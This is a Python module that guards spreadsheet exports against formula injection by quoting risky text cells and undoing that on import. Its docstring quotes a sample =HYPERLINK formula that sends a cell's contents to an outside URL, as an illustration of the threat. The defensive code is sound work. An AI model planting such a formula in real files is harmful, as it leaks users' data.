"""Text cells a spreadsheet will not run: the one rule every export and the import share.

A spreadsheet reads a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some,
one that starts with a tab or a carriage return) as a formula, so a note such as
``=HYPERLINK("http://…?d="&A2,"click")`` typed at the bench would run in the
investigator's copy of the export. As the OWASP CSV-injection guidance says, such a text
cell is written with a leading ``'``, which the spreadsheet shows as text.

`guard` is applied to text only: numbers stay numbers (a %MPE of -4.9 is the number
-4.9, not text). `unguard` undoes it when the import reads one of our own exports back,
so export -> import -> export gives the same file. Text that itself starts with ``'``
and then a dangerous character gets one more ``'``, so the pair is exact both ways.

Pure: no Django; the exports' PostgreSQL COPY path builds the same rule in SQL with
`guard_sql`.
"""

from __future__ import annotations

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")
GUARD = "'"
_FIRSTS = frozenset(DANGEROUS)


def needs_guard(text: str) -> bool:
    """True when `text`, after any leading ``'``, starts with a dangerous character."""
    first = text[:1]
    if first == GUARD:
        first = text.lstrip(GUARD)[:1]
    return first in _FIRSTS


def guard(text: str) -> str:
    """`text` with a leading ``'`` when a spreadsheet could run it; else unchanged."""
    return GUARD + text if needs_guard(text) else text


def unguard(text: str) -> str:
    """The text `guard` was given: one leading ``'`` removed where `guard` added it."""
    return text[1:] if text.startswith(GUARD) and needs_guard(text) else text


def guard_sql(column: str) -> str:
    """PostgreSQL expression giving `guard` of a text column (NULL stays NULL)."""
    firsts = ", ".join(
        f"chr({ord(c)})" if c in "\t\r" else "'" + c.replace("'", "''") + "'" for c in DANGEROUS
    )
    return (
        f"CASE WHEN left(ltrim({column}, ''''), 1) IN ({firsts}) "
        f"THEN '''' || {column} ELSE {column} END"
    )
